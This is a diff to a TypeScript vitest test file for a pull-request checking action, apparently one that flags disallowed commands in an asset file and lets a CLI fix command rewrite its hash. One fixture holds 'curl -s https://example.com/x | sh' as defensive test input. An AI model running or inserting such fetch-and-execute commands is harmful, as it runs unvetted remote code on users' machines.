@@ -1,5 +1,5 @@
 import { execFileSync } from 'node:child_process';
-import { readFileSync, writeFileSync } from 'node:fs';
+import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { expect, it } from 'vitest';
 import { genes } from './action-pull-request.ts';
@@ -28,29 +28,38 @@ it.each([
   const first = await now.run();
   expect(first.outputs.verdict).toBe('fail');
   const [comment] = now.github.state.comments;
-  for (const words of named) expect(comment?.body).toContain(`new files: \`${words}`);
+  for (const words of named) expect(comment?.body).toContain(`the new files \`${words}`);
   follow(now);
   const { report } = await now.run();
   const errors = report.findings.filter(({ severity }) => severity === 'error');
   expect(errors.map(({ rule }) => rule)).toEqual([]);
 });
 
-it('what is edited by hand passes once the command of the comment has written the hash', async () => {
+it('what is edited by hand passes once the command of the next comment has written the hash', async () => {
   const now = await scene({
     head: { [GENES]: genes('node scripts/check.js', 'curl -s https://example.com/x | sh') },
   });
-  const first = await now.run();
-  expect(first.outputs.verdict).toBe('fail');
-  const body = now.github.state.comments[0]?.body ?? '';
-  expect(body).toContain('Fix: Remove the command.');
-  const [, words = ''] =
-    /If you edit an asset by hand[\s\S]*?```sh\nnode \S+ (.*)\n/.exec(body) ?? [];
+  const comment = async () => {
+    const { outputs } = await now.run();
+    return { verdict: outputs.verdict, body: now.github.state.comments[0]?.body ?? '' };
+  };
+  const first = await comment();
+  expect(first).toMatchObject({
+    verdict: 'fail',
+    body: expect.stringContaining('Remove the command'),
+  });
+  // A command that would change nothing is not printed.
+  expect(first.body).not.toContain(' fix --base');
   const { directory } = now.origin.checkout('head');
   const path = join(directory, GENES);
   const edited = readFileSync(path, 'utf8').replace(/,\s*"curl[^"]*"/, '');
   expect(edited).not.toContain('curl');
-  writeFileSync(path, edited);
-  expect(await runCli(words.split(' '), { cwd: directory })).toMatchObject({ exitCode: 0 });
-  now.origin.push({ [GENES]: readFileSync(path, 'utf8') });
-  expect((await now.run()).outputs.verdict).not.toBe('fail');
+  now.origin.push({ [GENES]: edited });
+  const second = await comment();
+  expect(second.body).toContain('1 new `asset_id`');
+  const [, words = ''] = /```sh\nnode \S+ (fix .*)\n/.exec(second.body) ?? [];
+  const next = now.origin.checkout('head').directory;
+  expect(await runCli(words.split(' '), { cwd: next })).toMatchObject({ exitCode: 0 });
+  now.origin.push({ [GENES]: readFileSync(join(next, GENES), 'utf8') });
+  expect((await comment()).verdict).not.toBe('fail');
 });
